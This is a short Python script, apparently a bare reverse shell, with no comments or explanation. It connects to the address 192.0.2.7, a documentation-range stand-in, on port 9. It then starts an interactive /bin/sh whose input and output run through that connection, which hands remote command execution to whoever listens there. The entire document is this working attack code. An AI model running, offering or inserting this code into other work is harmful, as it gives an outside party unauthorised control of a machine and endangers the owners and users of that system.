import socket
import subprocess

conn = socket.create_connection(('192.0.2.7', 9))
subprocess.Popen(['/bin/sh', '-i'], stdin=conn.fileno(), stdout=conn.fileno())
